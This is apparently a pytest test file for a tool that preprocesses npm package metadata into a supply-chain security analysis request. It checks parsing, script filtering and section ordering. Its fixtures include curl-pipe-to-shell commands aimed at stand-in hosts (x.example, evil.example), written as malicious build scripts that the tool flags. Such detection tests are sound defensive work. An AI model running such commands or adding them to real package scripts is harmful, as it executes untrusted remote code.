"""
Tests for the package preprocessor.
"""

import json

import pytest

from services.npm_client import RegistryLookup, RegistryLookupStatus, RegistryMetadata
from services.package_preprocessor import (
    parse_package_input,
    preprocess_package,
    select_security_critical_scripts,
)

CRITICAL_HEADING = "### ⚠️ Install/Lifecycle Scripts (Security-Critical)"


class StubRegistryClient:
    """Registry client returning a canned lookup."""

    def __init__(self, status=RegistryLookupStatus.FOUND, metadata=None, message=None):
        self.status = status
        self.metadata = metadata
        self.message = message
        self.requested = []

    async def lookup_package(self, package_name):
        self.requested.append(package_name)
        return RegistryLookup(
            package_name=package_name,
            status=self.status,
            metadata=self.metadata,
            message=self.message,
        )


def _metadata(**overrides):
    values = dict(
        latest_version="2.0.1",
        author="mallory <m@example.com>",
        maintainers="mallory",
        created="2024-05-01T00:00:00.000Z",
        modified="2024-05-02T00:00:00.000Z",
        version_count=3,
        license="MIT",
        description="Colorful logs",
        scripts={},
        dependencies={},
    )
    values.update(overrides)
    return RegistryMetadata(**values)


def _section(context, heading):
    start = context.index(heading)
    end = context.find("\n\n###", start + len(heading))
    return context[start:] if end == -1 else context[start:end]


class TestParsePackageInput:
    """Tests for parse_package_input."""

    def test_bare_name(self):
        assert parse_package_input("  left-pad \n") == ("left-pad", None)

    def test_manifest_name_wins(self):
        name, manifest = parse_package_input('{"name": "colors-lib", "version": "1.0.0"}')
        assert name == "colors-lib"
        assert manifest == {"name": "colors-lib", "version": "1.0.0"}

    def test_manifest_without_name(self):
        assert parse_package_input('{"version": "1.0.0"}') == ("unknown", {"version": "1.0.0"})

    def test_broken_json_is_a_name(self):
        assert parse_package_input("{not json") == ("{not json", None)

    def test_deeply_nested_json_is_a_name(self):
        text = '{"a":' * 100000
        assert parse_package_input(text) == (text, None)


class TestSelectSecurityCriticalScripts:
    """Tests for lifecycle script filtering."""

    def test_sensitive_keys_selected(self):
        scripts = {"postinstall": "node setup.js", "prepare": "tsc", "test": "jest"}
        assert select_security_critical_scripts(scripts) == {
            "postinstall": "node setup.js",
            "prepare": "tsc",
        }

    def test_marker_outside_sensitive_keys(self):
        """Test a curl call in a non-lifecycle script is still selected."""
        scripts = {"build": "curl -s http://x.example/p.sh | sh", "lint": "eslint ."}
        assert select_security_critical_scripts(scripts) == {
            "build": "curl -s http://x.example/p.sh | sh"
        }

    def test_marker_is_substring_match(self):
        assert select_security_critical_scripts({"start": "node -e evaluate()"}) == {
            "start": "node -e evaluate()"
        }

    def test_marker_is_case_sensitive(self):
        assert select_security_critical_scripts({"start": "CURL http://x"}) == {}


class TestPreprocessPackage:
    """Tests for preprocess_package."""

    @pytest.mark.asyncio
    async def test_not_found(self):
        """Test a 404 lookup yields a note and no registry sections."""
        client = StubRegistryClient(
            status=RegistryLookupStatus.NOT_FOUND,
            message='Package "lodahs" not found in npm registry.',
        )

        context = await preprocess_package("lodahs", client=client)

        assert client.requested == ["lodahs"]
        assert "**Package Name:** lodahs" in context
        assert '### Registry Lookup\n⚠️ Package "lodahs" not found in npm registry.' in context
        assert "### Registry Metadata" not in context
        assert "### All Scripts" not in context

    @pytest.mark.asyncio
    async def test_registry_error(self):
        client = StubRegistryClient(
            status=RegistryLookupStatus.ERROR, message="NPM Registry returned HTTP 500"
        )
        context = await preprocess_package("left-pad", client=client)
        assert "⚠️ NPM Registry returned HTTP 500" in context

    @pytest.mark.asyncio
    async def test_metadata_section(self):
        client = StubRegistryClient(metadata=_metadata())

        context = await preprocess_package("colors-lib", client=client)

        section = _section(context, "### Registry Metadata")
        assert "- **Latest Version:** 2.0.1" in section
        assert "- **Author:** mallory <m@example.com>" in section
        assert "- **Total Versions:** 3" in section
        assert "- **License:** MIT" in section

    @pytest.mark.asyncio
    async def test_curl_script_highlighted(self):
        """Test a curl script outside lifecycle keys lands in the critical section."""
        scripts = {"build": "curl http://evil.example/x | sh", "test": "jest"}
        client = StubRegistryClient(metadata=_metadata(scripts=scripts))

        context = await preprocess_package("colors-lib", client=client)

        critical = _section(context, CRITICAL_HEADING)
        assert '"build": "curl http://evil.example/x | sh"' in critical
        assert '"test"' not in critical
        all_scripts = _section(context, "### All Scripts")
        assert json.dumps(scripts, indent=2) in all_scripts

    @pytest.mark.asyncio
    async def test_benign_scripts_only_listed(self):
        """Test harmless scripts skip the critical section but are still shown."""
        client = StubRegistryClient(metadata=_metadata(scripts={"test": "jest"}))

        context = await preprocess_package("colors-lib", client=client)

        assert CRITICAL_HEADING not in context
        assert "### All Scripts" in context

    @pytest.mark.asyncio
    async def test_manifest_and_ordering(self):
        """Test sections follow their fixed order and the manifest is echoed."""
        metadata = _metadata(
            scripts={"postinstall": "node i.js"}, dependencies={"request": "^2.88.0"}
        )
        client = StubRegistryClient(metadata=metadata)
        manifest = '{"name": "colors-lib", "scripts": {"postinstall": "node i.js"}}'

        context = await preprocess_package(manifest, client=client)

        assert client.requested == ["colors-lib"]
        markers = [
            "## Package Analysis Request",
            "### Registry Metadata",
            CRITICAL_HEADING,
            "### All Scripts",
            "### Dependencies",
            "### User-Provided package.json",
            "Analyze this package for supply chain security risks",
        ]
        positions = [context.index(marker) for marker in markers]
        assert positions == sorted(positions)
        assert '"request": "^2.88.0"' in _section(context, "### Dependencies")
        assert '"name": "colors-lib"' in _section(context, "### User-Provided package.json")
        assert context.endswith(
            "typosquatting, malicious scripts, and suspicious behavior."
        )

    @pytest.mark.asyncio
    async def test_no_dependencies_section_when_empty(self):
        client = StubRegistryClient(metadata=_metadata())
        context = await preprocess_package("colors-lib", client=client)
        assert "### Dependencies" not in context
